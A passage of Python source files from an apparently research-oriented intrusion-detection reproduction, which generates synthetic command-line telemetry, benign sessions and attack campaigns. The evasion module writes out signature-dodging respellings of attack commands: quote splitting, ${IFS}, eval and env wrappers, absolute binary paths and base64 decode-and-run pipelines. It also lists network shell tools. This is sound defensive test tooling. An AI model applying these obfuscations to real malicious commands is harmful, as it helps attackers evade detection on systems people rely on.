        scenario = f"benign.{role}"
        if model.tasks and self._rng.random() < 0.45:
            weights = np.array([task.weight for task in model.tasks])
            task = model.tasks[int(self._rng.choice(len(model.tasks), p=weights / weights.sum()))]
            scenario = f"benign.{role}.{task.name}"
            lines.extend(self._filler.fill(template, user=user) for template in task.templates)
            # tasks often end with a couple of ad-hoc commands
            extra = int(self._rng.integers(0, 3))
        else:
            extra = int(self._rng.integers(2, 8))
        templates, probabilities = self._singletons(model)
        for _ in range(extra):
            template = templates[int(self._rng.choice(len(templates), p=probabilities))]
            lines.append(self._filler.fill(template, user=user))
        if self._rng.random() < self.abnormal_benign_prob:
            lines.append(self._abnormal_benign())
        return SessionPlan(scenario=scenario, lines=tuple(lines))

    def _abnormal_benign(self) -> str:
        kind = int(self._rng.integers(3))
        if kind == 0:
            return self._filler.abnormal_benign_mv()
        if kind == 1:
            return self._filler.abnormal_benign_echo()
        return self._filler.abnormal_benign_oneliner()
