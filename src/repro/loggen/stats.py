"""Corpus statistics for validating the synthetic telemetry.

DESIGN.md §2 claims the generator reproduces the statistical properties
the paper's methods depend on: Zipf-like command-frequency heads, heavy
duplication requiring test-set dedup, rare anomalies, and session
structure.  This module measures them so tests (and users swapping in
their own telemetry) can check those properties hold.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass

import numpy as np

from repro.loggen.dataset import CommandDataset
from repro.shell.extract import CommandExtractor


@dataclass(frozen=True)
class CorpusStats:
    """Summary statistics of a command-line corpus.

    Attributes
    ----------
    n_lines / n_unique_lines:
        Volume and distinct-line count (their ratio drives dedup).
    duplicate_fraction:
        1 − unique/total.
    n_commands:
        Distinct primary command names.
    zipf_alpha:
        Fitted slope of log-frequency vs log-rank over the head of the
        command distribution (≈1 for natural command logs).
    top_commands:
        The Figure-2-style occurrence head.
    malicious_fraction:
        Ground-truth intrusion rate.
    mean_session_length / n_sessions:
        Session structure (the unit multi-line classification uses).
    """

    n_lines: int
    n_unique_lines: int
    duplicate_fraction: float
    n_commands: int
    zipf_alpha: float
    top_commands: list[tuple[str, int]]
    malicious_fraction: float
    mean_session_length: float
    n_sessions: int


def fit_zipf_alpha(counts: list[int], head: int = 30) -> float:
    """Least-squares slope of log(count) on log(rank) over the top *head*.

    Returns the positive exponent alpha; 0.0 when under two points.
    """
    ranked = sorted((c for c in counts if c > 0), reverse=True)[:head]
    if len(ranked) < 2:
        return 0.0
    ranks = np.log(np.arange(1, len(ranked) + 1, dtype=np.float64))
    values = np.log(np.asarray(ranked, dtype=np.float64))
    slope = np.polyfit(ranks, values, deg=1)[0]
    return float(-slope)


def corpus_stats(dataset: CommandDataset) -> CorpusStats:
    """Compute :class:`CorpusStats` for *dataset*."""
    extractor = CommandExtractor()
    lines = dataset.lines()
    name_counts: Counter[str] = Counter()
    for line in lines:
        summary = extractor.try_summarize(line)
        if summary is not None and summary.primary_name is not None:
            name_counts[summary.primary_name] += 1
    session_lengths = Counter(record.session for record in dataset)
    unique = len(set(lines))
    return CorpusStats(
        n_lines=len(lines),
        n_unique_lines=unique,
        duplicate_fraction=1.0 - unique / max(len(lines), 1),
        n_commands=len(name_counts),
        zipf_alpha=fit_zipf_alpha(list(name_counts.values())),
        top_commands=name_counts.most_common(10),
        malicious_fraction=float(dataset.labels().mean()) if len(dataset) else 0.0,
        mean_session_length=float(np.mean(list(session_lengths.values()))) if session_lengths else 0.0,
        n_sessions=len(session_lengths),
    )
