"""Adversarial evasion corpus: mutated attack lines plus staged campaigns.

The serving pipeline scores *text*, so an attacker who respells a
signatured command — quote fragments, ``$IFS`` separators, ``env``/
``eval`` wrappers, absolute interpreter paths, base64 decode-exec
pipelines — changes the token stream without changing behaviour.  This
module generates exactly those respellings, paired with ground truth:

- :class:`EvasionMutator` derives evasion variants of instantiated
  :class:`~repro.loggen.attacks.AttackFamily` lines.  Every emitted
  variant is **verified** to canonicalize (via
  :class:`~repro.preprocess.Canonicalizer`) to the same form as its
  base line — the corpus is the canonicalization stage's acceptance
  contract, not a grab-bag of rewrites.
- :func:`build_evasion_corpus` instantiates every family template and
  fans each line out across all applicable techniques, yielding
  :class:`EvasionCase` records (base, variant, shared canonical form).
- :class:`CampaignBuilder` sequences multi-stage intrusions
  (recon → exploit → persistence) on one host, optionally evading each
  step, yielding :class:`Campaign`/:class:`CampaignStep` records for
  per-campaign precision/recall scoring in the scenario harness.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

import numpy as np

from repro.loggen.attacks import ATTACK_FAMILIES, FAMILY_BY_NAME, AttackSampler
from repro.preprocess.canonicalize import Canonicalizer
from repro.shell.lexer import Lexer, TokenKind

#: Mutation techniques, in a stable order.
EVASION_TECHNIQUES = ("quote", "ifs", "base64", "wrapper", "interpreter")

#: Tokens made purely of these characters can be quoted/split safely.
_SAFE_TOKEN_CHARS = frozenset(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./-"
)

#: Binaries commonly invoked by absolute path to dodge name matching.
_KNOWN_BINARIES = frozenset(
    {
        "sh", "bash", "dash", "zsh", "cat", "nc", "ncat", "socat", "curl",
        "wget", "nmap", "masscan", "python3", "perl", "php", "java", "tar",
        "dd", "grep", "scp", "cp", "chmod", "crontab", "echo", "printf",
        "mkfifo", "nohup", "seq", "xargs", "base64", "openssl", "tail",
        "ssh", "export",
    }
)

#: Stage layout of a multi-step campaign: stage name → candidate families.
CAMPAIGN_STAGES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("recon", ("port_scan", "credential_theft")),
    ("exploit", ("download_exec", "reverse_shell", "base64_exec")),
    ("persistence", ("persistence", "crypto_miner")),
)


@dataclass(frozen=True)
class EvasionCase:
    """One (base line, evasion variant) pair with its shared canonical form.

    ``canonical`` is both ``canon(base)`` and ``canon(variant)`` — the
    mutator only emits variants for which the two coincide, which is
    what makes the pair *resolvable* by the canonicalization stage.
    """

    family: str
    technique: str
    inbox: bool
    base: str
    variant: str
    canonical: str


@dataclass(frozen=True)
class CampaignStep:
    """One command of a staged campaign, as the victim host runs it."""

    stage: str
    family: str
    technique: str | None
    base: str
    line: str
    canonical: str


@dataclass(frozen=True)
class Campaign:
    """A recon → exploit → persistence sequence on one host."""

    name: str
    host: str
    steps: tuple[CampaignStep, ...]

    @property
    def lines(self) -> list[str]:
        return [step.line for step in self.steps]


class EvasionMutator:
    """Derive canonicalization-resolvable evasion variants of a line.

    Techniques (:data:`EVASION_TECHNIQUES`):

    - ``quote`` — fragment a plain token with decorative quotes
      (``cat`` → ``ca't'``).
    - ``ifs`` — replace a word-separating space with ``${IFS}``.
    - ``base64`` — wrap the whole line in a decode-exec pipeline
      (``echo <b64> | base64 -d | sh``).
    - ``wrapper`` — prefix a no-op wrapper (``env``/``command``) or
      wrap in ``eval '...'``.
    - ``interpreter`` — respell the leading command as an absolute
      standard-bin path (``cat`` → ``/usr/bin/cat``).

    Every candidate is verified against the canonicalizer: a variant is
    only returned when ``canon(variant) == canon(base)``, so the corpus
    stays an exact acceptance contract for the serving stage.  Bases
    that do not parse produce no variants.
    """

    def __init__(
        self,
        rng: np.random.Generator | None = None,
        canonicalizer: Canonicalizer | None = None,
    ):
        self._rng = rng or np.random.default_rng(0)
        self._canonicalizer = canonicalizer or Canonicalizer()
        self._lexer = Lexer()

    # -- public API --------------------------------------------------------

    def canonical(self, line: str) -> str | None:
        """``canon(line)``, or ``None`` when *line* does not parse."""
        result = self._canonicalizer.canonicalize(line)
        return result.text if result.ok else None

    def variants(self, line: str) -> list[tuple[str, str]]:
        """All verified ``(technique, variant)`` pairs for *line*."""
        canonical = self.canonical(line)
        if canonical is None:
            return []
        out: list[tuple[str, str]] = []
        for technique in EVASION_TECHNIQUES:
            for candidate in self._candidates(line, technique):
                if candidate == line:
                    continue
                result = self._canonicalizer.canonicalize(candidate)
                if result.ok and result.text == canonical:
                    out.append((technique, candidate))
                    break
        return out

    def mutate(self, line: str, technique: str | None = None) -> tuple[str, str] | None:
        """One verified ``(technique, variant)`` for *line*, or ``None``.

        With *technique* given, only that technique is tried; otherwise
        a random verified technique is chosen.
        """
        options = self.variants(line)
        if technique is not None:
            options = [pair for pair in options if pair[0] == technique]
        if not options:
            return None
        return options[int(self._rng.integers(len(options)))]

    # -- candidate generation ----------------------------------------------

    def _candidates(self, line: str, technique: str) -> list[str]:
        if technique == "quote":
            return self._quote_candidates(line)
        if technique == "ifs":
            return self._ifs_candidates(line)
        if technique == "base64":
            return self._base64_candidates(line)
        if technique == "wrapper":
            return self._wrapper_candidates(line)
        if technique == "interpreter":
            return self._interpreter_candidates(line)
        raise ValueError(
            f"unknown technique {technique!r} (known: {', '.join(EVASION_TECHNIQUES)})"
        )

    def _plain_tokens(self, line: str):
        """WORD tokens whose raw text is verbatim, safe, and re-spellable."""
        try:
            tokens = self._lexer.tokenize(line)
        except Exception:
            return []
        out = []
        for token in tokens:
            if token.kind is not TokenKind.WORD:
                continue
            value = token.value
            if len(value) < 2 or not set(value) <= _SAFE_TOKEN_CHARS:
                continue
            if line[token.position : token.position + len(value)] != value:
                continue
            out.append(token)
        return out

    @staticmethod
    def _splice(line: str, position: int, length: int, replacement: str) -> str:
        return line[:position] + replacement + line[position + length :]

    def _quote_candidates(self, line: str) -> list[str]:
        candidates = []
        for token in self._plain_tokens(line):
            value = token.value
            if value.startswith("-"):
                continue
            split = len(value) // 2 or 1
            fragment = value[:split] + "'" + value[split:] + "'"
            candidates.append(self._splice(line, token.position, len(value), fragment))
            candidates.append(
                self._splice(line, token.position, len(value), f"'{value}'")
            )
        return candidates

    def _ifs_candidates(self, line: str) -> list[str]:
        candidates = []
        for index, ch in enumerate(line):
            if ch != " " or index == 0 or index == len(line) - 1:
                continue
            if line[index - 1] in _SAFE_TOKEN_CHARS and line[index + 1] in _SAFE_TOKEN_CHARS:
                candidates.append(line[:index] + "${IFS}" + line[index + 1 :])
        return candidates

    @staticmethod
    def _base64_candidates(line: str) -> list[str]:
        payload = base64.b64encode(line.encode("utf-8")).decode("ascii")
        return [
            f"echo {payload} | base64 -d | sh",
            f"printf %s {payload} | base64 --decode | sh -i",
            f"echo {payload} | openssl enc -base64 -d | sh",
        ]

    @staticmethod
    def _wrapper_candidates(line: str) -> list[str]:
        quoted = "'" + line.replace("'", "'\\''") + "'"
        return [f"env {line}", f"command {line}", f"eval {quoted}"]

    def _interpreter_candidates(self, line: str) -> list[str]:
        candidates = []
        for token in self._plain_tokens(line):
            if token.value not in _KNOWN_BINARIES or "/" in token.value:
                continue
            for prefix in ("/usr/bin/", "/bin/"):
                candidates.append(
                    self._splice(
                        line, token.position, len(token.value), prefix + token.value
                    )
                )
        return candidates


def build_evasion_corpus(
    seed: int = 0,
    families: list[str] | None = None,
    *,
    inbox: bool = True,
    outbox: bool = True,
) -> list[EvasionCase]:
    """Instantiate every family template and mutate it every way that sticks.

    Deterministic for a given *seed*.  Each returned case pairs one
    instantiated base line with one verified variant per applicable
    technique; bases that do not parse (and techniques that cannot be
    verified for a base) are skipped silently — the corpus only
    contains pairs the canonicalization stage is contractually expected
    to resolve.
    """
    rng = np.random.default_rng(seed)
    sampler = AttackSampler(rng)
    mutator = EvasionMutator(rng=rng)
    names = families or [family.name for family in ATTACK_FAMILIES]
    cases: list[EvasionCase] = []
    for name in names:
        family = FAMILY_BY_NAME[name]
        for is_inbox, sessions in ((True, family.inbox), (False, family.outbox)):
            if (is_inbox and not inbox) or (not is_inbox and not outbox):
                continue
            for session in sessions:
                for template in session:
                    line = sampler._fill(template)
                    canonical = mutator.canonical(line)
                    if canonical is None:
                        continue
                    for technique, variant in mutator.variants(line):
                        cases.append(
                            EvasionCase(
                                family=name,
                                technique=technique,
                                inbox=is_inbox,
                                base=line,
                                variant=variant,
                                canonical=canonical,
                            )
                        )
    return cases


class CampaignBuilder:
    """Compose staged intrusion campaigns from the attack library.

    Each campaign walks :data:`CAMPAIGN_STAGES` in order on a single
    host: one family is drawn per stage and one session instantiated
    from it.  With ``evade=True`` (default) every step is respelled by
    a verified :class:`EvasionMutator` technique when one applies, so
    the campaign's *lines* dodge raw string matching while its
    *canonical* forms still name the signatured behaviour.
    """

    def __init__(self, seed: int = 0, *, evade: bool = True):
        self._rng = np.random.default_rng(seed)
        self._sampler = AttackSampler(self._rng)
        self._mutator = EvasionMutator(rng=self._rng)
        self.evade = evade

    def build_one(self, name: str, host: str) -> Campaign:
        """One campaign on *host*, walking every stage in order."""
        steps: list[CampaignStep] = []
        for stage, pool in CAMPAIGN_STAGES:
            family = pool[int(self._rng.integers(len(pool)))]
            for line in self._sampler.sample(family, inbox=True):
                canonical = self._mutator.canonical(line)
                if canonical is None:
                    continue
                technique: str | None = None
                emitted = line
                if self.evade:
                    mutated = self._mutator.mutate(line)
                    if mutated is not None:
                        technique, emitted = mutated
                steps.append(
                    CampaignStep(
                        stage=stage,
                        family=family,
                        technique=technique,
                        base=line,
                        line=emitted,
                        canonical=canonical,
                    )
                )
        return Campaign(name=name, host=host, steps=tuple(steps))

    def build(self, count: int = 3) -> list[Campaign]:
        """*count* campaigns, each on its own attacker-controlled host."""
        return [
            self.build_one(f"campaign-{index}", f"victim-{index:02d}")
            for index in range(count)
        ]
