"""The cloud-fleet simulator: the paper's telemetry source, synthesised.

:class:`FleetSimulator` generates week-long command-line logs for a
fleet of machines and users, mixing benign role-driven sessions with
injected attack sessions (in-box and out-of-box variants), typos, and
un-parseable garbage.  :func:`generate_paper_split` mirrors the paper's
setup: a training week (May 1–7, 2022) and a test window (May 29–31,
2022).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta

import numpy as np

from repro.errors import ConfigError
from repro.loggen.attacks import ATTACK_FAMILIES, AttackSampler
from repro.loggen.behavior import BenignSessionGenerator
from repro.loggen.dataset import CommandDataset
from repro.loggen.entities import LogRecord, UserProfile, Variant
from repro.loggen.typos import TypoInjector

#: Role mix of the simulated organisation.
DEFAULT_ROLE_WEIGHTS: dict[str, float] = {
    "developer": 0.35,
    "devops": 0.25,
    "data_scientist": 0.15,
    "sysadmin": 0.15,
    "db_admin": 0.10,
}


@dataclass
class FleetConfig:
    """Knobs of the fleet simulator.

    Attributes
    ----------
    n_users / n_machines:
        Fleet size; each user operates on 1–3 machines.
    role_weights:
        Role mix (normalised internally).
    attack_session_rate:
        Fraction of generated sessions that are attack sessions.
    outbox_fraction:
        Among attack sessions, fraction using out-of-box variants.
    attack_families:
        Families to draw from (default: all).
    typo_prob / garbage_prob:
        Per-line probability of a command-name typo / un-parseable junk.
    abnormal_benign_prob:
        Per-session probability of a heavy-tail benign line.
    seed:
        Master seed; every generator stream derives from it.
    """

    n_users: int = 60
    n_machines: int = 150
    role_weights: dict[str, float] = field(default_factory=lambda: dict(DEFAULT_ROLE_WEIGHTS))
    attack_session_rate: float = 0.008
    outbox_fraction: float = 0.45
    attack_families: list[str] | None = None
    typo_prob: float = 0.01
    garbage_prob: float = 0.004
    abnormal_benign_prob: float = 0.01
    seed: int = 0

    def __post_init__(self):
        if self.n_users < 1 or self.n_machines < 1:
            raise ConfigError("fleet must have at least one user and machine")
        if not 0.0 <= self.attack_session_rate < 1.0:
            raise ConfigError("attack_session_rate must be in [0, 1)")
        if not 0.0 <= self.outbox_fraction <= 1.0:
            raise ConfigError("outbox_fraction must be in [0, 1]")


class FleetSimulator:
    """Generate telemetry for a simulated fleet.

    Example
    -------
    >>> sim = FleetSimulator(FleetConfig(seed=7))
    >>> data = sim.generate(datetime(2022, 5, 1), days=1, target_lines=500)
    >>> len(data) >= 500
    True
    """

    def __init__(self, config: FleetConfig | None = None):
        self.config = config or FleetConfig()
        self._rng = np.random.default_rng(self.config.seed)
        self.users = self._build_users()
        self._benign = BenignSessionGenerator(
            np.random.default_rng(self._rng.integers(2**31)),
            abnormal_benign_prob=self.config.abnormal_benign_prob,
        )
        self._attacks = AttackSampler(np.random.default_rng(self._rng.integers(2**31)))
        self._typos = TypoInjector(np.random.default_rng(self._rng.integers(2**31)))
        self._session_counter = 0

    def _build_users(self) -> list[UserProfile]:
        roles = list(self.config.role_weights)
        weights = np.array([self.config.role_weights[role] for role in roles], dtype=float)
        weights /= weights.sum()
        machines = [f"m{index:06d}" for index in range(self.config.n_machines)]
        users = []
        for index in range(self.config.n_users):
            role = roles[int(self._rng.choice(len(roles), p=weights))]
            owned = [
                machines[int(i)]
                for i in self._rng.choice(len(machines), size=int(self._rng.integers(1, 4)), replace=False)
            ]
            # log-normal activity → a heavy-tailed user traffic distribution
            activity = float(self._rng.lognormal(mean=0.0, sigma=1.0))
            users.append(UserProfile(user_id=f"u{index:04d}", role=role, machines=owned, activity=activity))
        return users

    def _pick_user(self) -> UserProfile:
        weights = np.array([user.activity for user in self.users])
        return self.users[int(self._rng.choice(len(self.users), p=weights / weights.sum()))]

    def _session_id(self) -> str:
        self._session_counter += 1
        return f"s{self._session_counter:08d}"

    def _session_records(
        self,
        lines: list[str],
        scenario: str,
        malicious: bool,
        variant: Variant,
        start: datetime,
        user: UserProfile,
    ) -> list[LogRecord]:
        machine = user.machines[int(self._rng.integers(len(user.machines)))]
        session = self._session_id()
        records = []
        cursor = start
        for line in lines:
            cursor = cursor + timedelta(seconds=float(self._rng.integers(2, 90)))
            records.append(
                LogRecord(
                    line=line,
                    user=user.user_id,
                    machine=machine,
                    timestamp=cursor,
                    session=session,
                    scenario=scenario,
                    is_malicious=malicious,
                    variant=variant,
                )
            )
        return records

    def generate(
        self,
        start: datetime,
        days: int,
        target_lines: int,
        attack_session_rate: float | None = None,
        outbox_fraction: float | None = None,
    ) -> CommandDataset:
        """Generate at least *target_lines* records across *days* days.

        ``attack_session_rate`` / ``outbox_fraction`` override the config
        for this call (used to give train and test windows different
        attack mixes).
        """
        if target_lines < 1 or days < 1:
            raise ConfigError("target_lines and days must be positive")
        rate = self.config.attack_session_rate if attack_session_rate is None else attack_session_rate
        outbox = self.config.outbox_fraction if outbox_fraction is None else outbox_fraction
        period_seconds = days * 86_400
        records: list[LogRecord] = []
        while len(records) < target_lines:
            user = self._pick_user()
            offset = timedelta(seconds=float(self._rng.uniform(0, period_seconds)))
            begin = start + offset
            if self._rng.random() < rate:
                is_outbox = self._rng.random() < outbox
                family, lines = self._attacks.sample_any(
                    inbox=not is_outbox, families=self.config.attack_families
                )
                records.extend(
                    self._session_records(
                        lines,
                        scenario=f"attack.{family}",
                        malicious=True,
                        variant=Variant.OUTBOX if is_outbox else Variant.INBOX,
                        start=begin,
                        user=user,
                    )
                )
            else:
                plan = self._benign.generate(user.role, user.user_id)
                noisy = [
                    self._typos.maybe_corrupt(line, self.config.typo_prob, self.config.garbage_prob)
                    for line in plan.lines
                ]
                records.extend(
                    self._session_records(
                        noisy,
                        scenario=plan.scenario,
                        malicious=False,
                        variant=Variant.BENIGN,
                        start=begin,
                        user=user,
                    )
                )
        return CommandDataset(records).sorted_by_time()


def generate_paper_split(
    train_lines: int = 30_000,
    test_lines: int = 10_000,
    config: FleetConfig | None = None,
    test_attack_session_rate: float = 0.02,
    test_outbox_fraction: float = 0.5,
) -> tuple[CommandDataset, CommandDataset]:
    """Generate the paper's train/test windows at reproduction scale.

    Training data covers May 1–7, 2022 (the paper's 30M-line week) and
    the test data May 29–31, 2022 (the 10M-line window), scaled down by
    default to 30k/10k lines.  The test window uses a higher attack rate
    and a 50/50 in-box/out-of-box mix so that the top-v precision metrics
    have enough support after de-duplication.
    """
    simulator = FleetSimulator(config)
    train = simulator.generate(datetime(2022, 5, 1), days=7, target_lines=train_lines)
    test = simulator.generate(
        datetime(2022, 5, 29),
        days=3,
        target_lines=test_lines,
        attack_session_rate=test_attack_session_rate,
        outbox_fraction=test_outbox_fraction,
    )
    return train, test
