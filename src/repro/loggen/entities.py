"""Core entities of the synthetic cloud fleet: records, users, machines.

The paper logs "the command lines of all the users on ~100 000 machines"
in a production cloud.  Our substitute models that telemetry as a stream
of :class:`LogRecord` rows carrying everything the downstream methods
consume — the raw line, user/machine identity, timestamp — plus
generator-side ground truth used only for evaluation.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from datetime import datetime


class Variant(enum.Enum):
    """How an injected attack relates to the simulated commercial IDS.

    ``INBOX`` lines match one of the IDS's signatures ("in-box"
    intrusions in the paper); ``OUTBOX`` lines are functional siblings
    engineered to evade the signatures ("out-of-box"); ``BENIGN`` lines
    carry no attack at all.
    """

    BENIGN = "benign"
    INBOX = "inbox"
    OUTBOX = "outbox"


@dataclass(frozen=True)
class LogRecord:
    """One logged command-line execution.

    Attributes
    ----------
    line:
        The raw command line.
    user:
        User identifier (``u0001``-style).
    machine:
        Machine identifier (``m000001``-style).
    timestamp:
        Execution time.
    session:
        Session identifier grouping temporally contiguous commands of
        one user (the unit multi-line classification consumes).
    scenario:
        Generator scenario label (e.g. ``benign.devops.build`` or
        ``attack.reverse_shell``); diagnostic only.
    is_malicious:
        Ground-truth oracle: whether the line belongs to an intrusion.
    variant:
        :class:`Variant` of the line (benign / in-box / out-of-box).
    """

    line: str
    user: str
    machine: str
    timestamp: datetime
    session: str = ""
    scenario: str = "benign"
    is_malicious: bool = False
    variant: Variant = Variant.BENIGN

    def replace_line(self, line: str) -> "LogRecord":
        """Copy of this record with a different command line."""
        return LogRecord(
            line=line,
            user=self.user,
            machine=self.machine,
            timestamp=self.timestamp,
            session=self.session,
            scenario=self.scenario,
            is_malicious=self.is_malicious,
            variant=self.variant,
        )


@dataclass
class UserProfile:
    """A simulated cloud user.

    Attributes
    ----------
    user_id:
        Stable identifier.
    role:
        Behaviour-model key (see :mod:`repro.loggen.behavior`).
    machines:
        Machines this user operates on.
    activity:
        Relative likelihood of the user producing a session (weights
        the per-user traffic distribution; heavy users dominate, as in
        production logs).
    """

    user_id: str
    role: str
    machines: list[str] = field(default_factory=list)
    activity: float = 1.0
