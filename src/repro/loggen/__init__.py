"""Synthetic cloud command-line telemetry (substitute for the paper's
proprietary 30M/10M-line production logs — see DESIGN.md §2).

Public surface:

- :class:`FleetSimulator` / :class:`FleetConfig` — the generator.
- :func:`generate_paper_split` — the May-2022 train/test windows.
- :class:`CommandDataset` / :class:`LogRecord` / :class:`Variant` — data.
- :class:`AttackSampler` / :data:`ATTACK_FAMILIES` — attack library.
- :class:`EvasionMutator` / :func:`build_evasion_corpus` /
  :class:`CampaignBuilder` — adversarial evasion variants and staged
  campaigns, verified against the canonicalization stage.
- :class:`BenignSessionGenerator` — role-driven benign sessions.
- :class:`TypoInjector` — telemetry noise.
- :class:`GroundTruthOracle` — evaluation-side truth.
"""

from repro.loggen.attacks import ATTACK_FAMILIES, FAMILY_BY_NAME, AttackFamily, AttackSampler
from repro.loggen.behavior import BenignSessionGenerator, SessionPlan
from repro.loggen.benign import ROLE_MODELS, TemplateFiller
from repro.loggen.dataset import CommandDataset
from repro.loggen.entities import LogRecord, UserProfile, Variant
from repro.loggen.evasion import (
    CAMPAIGN_STAGES,
    EVASION_TECHNIQUES,
    Campaign,
    CampaignBuilder,
    CampaignStep,
    EvasionCase,
    EvasionMutator,
    build_evasion_corpus,
)
from repro.loggen.fleet import DEFAULT_ROLE_WEIGHTS, FleetConfig, FleetSimulator, generate_paper_split
from repro.loggen.groundtruth import GroundTruthOracle
from repro.loggen.stats import CorpusStats, corpus_stats, fit_zipf_alpha
from repro.loggen.typos import TypoInjector

__all__ = [
    "ATTACK_FAMILIES",
    "AttackFamily",
    "AttackSampler",
    "BenignSessionGenerator",
    "CAMPAIGN_STAGES",
    "Campaign",
    "CampaignBuilder",
    "CampaignStep",
    "CommandDataset",
    "CorpusStats",
    "DEFAULT_ROLE_WEIGHTS",
    "EVASION_TECHNIQUES",
    "EvasionCase",
    "EvasionMutator",
    "FAMILY_BY_NAME",
    "FleetConfig",
    "FleetSimulator",
    "GroundTruthOracle",
    "LogRecord",
    "ROLE_MODELS",
    "SessionPlan",
    "TemplateFiller",
    "TypoInjector",
    "UserProfile",
    "Variant",
    "build_evasion_corpus",
    "corpus_stats",
    "fit_zipf_alpha",
    "generate_paper_split",
]
