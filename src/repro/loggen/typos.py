"""Typo and garbage injection for realistic noisy telemetry.

Section II-A motivates pre-processing with exactly this noise: command
names with transposed/duplicated/dropped characters (``dcoker``,
``chdmod``) and outright un-parseable junk such as the invalid
``/*/*/* -> /*/*/* ->`` redirection.  The injector reproduces both.
"""

from __future__ import annotations

import numpy as np

_GARBAGE_LINES = [
    "/a/b/c -> /d/e/f ->",
    "ls | | grep x",
    "echo 'unterminated",
    'cat "half quoted',
    "| head -5",
    "&& make",
    "echo $(unclosed substitution",
    "grep pattern file >",
    "tar -xzf archive.tgz &&",
    "((",
]


class TypoInjector:
    """Corrupt command lines the way real operators do.

    Parameters
    ----------
    rng:
        Randomness source.
    """

    def __init__(self, rng: np.random.Generator):
        self._rng = rng

    def typo_command_name(self, line: str) -> str:
        """Corrupt the first word of *line* (transpose/duplicate/drop)."""
        parts = line.split(" ", 1)
        name = parts[0]
        if len(name) < 3:
            return line
        mode = int(self._rng.integers(3))
        index = int(self._rng.integers(1, len(name) - 1))
        if mode == 0:  # transpose two adjacent characters: docker -> dcoker
            chars = list(name)
            chars[index], chars[index - 1] = chars[index - 1], chars[index]
            name = "".join(chars)
        elif mode == 1:  # duplicate a character: chmod -> chmmod
            name = name[:index] + name[index] + name[index:]
        else:  # drop a character: grep -> gep
            name = name[:index] + name[index + 1 :]
        return name + (" " + parts[1] if len(parts) > 1 else "")

    def garbage_line(self) -> str:
        """An un-parseable line (fails the parser filter)."""
        return _GARBAGE_LINES[int(self._rng.integers(len(_GARBAGE_LINES)))]

    def maybe_corrupt(self, line: str, typo_prob: float, garbage_prob: float) -> str:
        """Apply a typo or replace with garbage, by the given probabilities."""
        draw = self._rng.random()
        if draw < garbage_prob:
            return self.garbage_line()
        if draw < garbage_prob + typo_prob:
            return self.typo_command_name(line)
        return line
