"""Benign command-line template library.

Templates are grouped into role-specific *tasks* — short coherent
sequences a real user would run together (build-and-test, log triage,
container debugging) — plus singleton commands.  Placeholders are
filled from realistic value pools so the corpus has heavy-tailed
argument diversity like production telemetry.

The library also produces the "abnormal yet benign" heavy-tail lines
Section III calls out as PCA false positives: ``mv`` with dozens of
complex filenames and ``echo`` with long weird but harmless text.
"""

from __future__ import annotations

import string
from dataclasses import dataclass, field

import numpy as np

# ---------------------------------------------------------------------------
# Value pools for template placeholders
# ---------------------------------------------------------------------------

DIRS = [
    "/tmp", "/var/log", "/opt/app", "/home/{user}", "/srv/data", "/etc/nginx",
    "/usr/local/bin", "/data/jobs", "/mnt/share", "/opt/app/releases", "/var/www",
]
FILES = [
    "main.py", "app.log", "config.yaml", "requirements.txt", "Makefile", "run.sh",
    "train.py", "model.pt", "data.csv", "index.html", "service.conf", "notes.txt",
    "backup.tgz", "error.log", "access.log", "deploy.sh", "metrics.json", "input.txt",
]
HOSTS = ["10.12.3.4", "10.0.8.15", "db-primary", "cache-01", "api.internal", "192.168.4.22"]
PACKAGES = ["numpy", "requests", "flask", "pandas", "redis", "gunicorn", "pyyaml", "scipy"]
SERVICES = ["nginx", "redis", "postgresql", "docker", "crond", "sshd", "kubelet"]
BRANCHES = ["main", "develop", "feature/login", "hotfix/crash", "release/2.4"]
CONTAINERS = ["web-1", "worker-3", "redis-cache", "batch-job", "api-gw"]
PATTERNS = ["ERROR", "WARN", "timeout", "refused", "OOM", "exception", "failed"]
PORTS = ["8080", "5432", "6379", "3000", "9200", "8443"]
DATASETS = ["train.csv", "eval.parquet", "features.npz", "labels.json", "raw_dump.csv"]


@dataclass(frozen=True)
class Task:
    """A coherent multi-command activity executed within one session."""

    name: str
    templates: tuple[str, ...]
    weight: float = 1.0


@dataclass
class RoleModel:
    """The behaviour model of one user role: weighted tasks + singletons."""

    role: str
    tasks: list[Task] = field(default_factory=list)
    singletons: list[tuple[str, float]] = field(default_factory=list)


def _hard_negative_singletons() -> list[tuple[str, float]]:
    """Benign lines that are *lexically close* to attack tooling.

    Production telemetry is full of these: port health checks with
    ``nc``, base64 decoding of ordinary data, corporate proxy exports,
    package installs that download-and-run.  They never match the
    commercial IDS signatures (its precision stays ~100%) but they sit
    near attacks in embedding space — which is precisely why similarity-
    based retrieval is noisier than discriminative tuning (Section V-A).
    """
    return [
        ("nc -z localhost {port}", 0.8),
        ("nc -zv {host} {port}", 0.6),
        ("nc -w 2 {host} {port} < /dev/null", 0.3),
        ("echo dGVzdC1wYXlsb2Fk | base64 -d", 0.5),
        ("base64 -d {dir}/{file}.b64 > {dir}/{file}", 0.4),
        ("base64 {dir}/{file} | head -c 100", 0.3),
        ("openssl base64 -d -in {dir}/{file}.b64 -out {dir}/{file}", 0.3),
        ("export no_proxy=localhost,127.0.0.1", 0.5),
        ("export https_proxy=", 0.3),
        ("curl -x http://proxy.corp.internal:3128 http://{host}:{port}/status", 0.4),
        ("curl -O https://releases.internal/{package}.tgz", 0.6),
        ("wget https://mirror.internal/{package}.deb", 0.5),
        ("wget -q https://mirror.internal/{package}.deb && sudo dpkg -i {package}.deb", 0.4),
        ("curl -fsSL https://get.docker.internal -o get-docker.sh", 0.3),
        ("sh get-docker.sh --dry-run", 0.2),
        ("cat /etc/passwd | grep {user}", 0.5),
        ("getent passwd {user}", 0.4),
        ("sudo tail -5 /var/log/auth.log", 0.5),
        ("nmap -p 22,80,443 {host}", 0.4),
        ("nmap -sn 10.12.3.0/24", 0.3),
        ("masscan --help", 0.1),
        ("python3 -c \"import socket; print(socket.gethostbyname('{host}'))\"", 0.4),
        ("ssh -L {port}:localhost:5432 {user}@{host}", 0.5),
        ("ssh -N -f -L 8443:{host}:443 {user}@bastion", 0.3),
        ("mkfifo /tmp/pipe-{num}", 0.2),
        ("crontab -e", 0.4),
